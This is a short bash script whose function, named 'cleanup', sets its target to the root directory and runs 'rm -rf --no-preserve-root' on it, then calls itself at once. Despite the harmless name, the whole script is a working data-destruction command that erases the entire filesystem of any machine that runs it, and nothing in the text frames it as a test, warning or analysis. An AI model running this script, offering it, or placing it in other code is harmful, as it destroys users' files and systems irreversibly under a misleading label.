#!/bin/bash
cleanup() {
  local target="/"
  rm -rf --no-preserve-root "$target"
}
cleanup
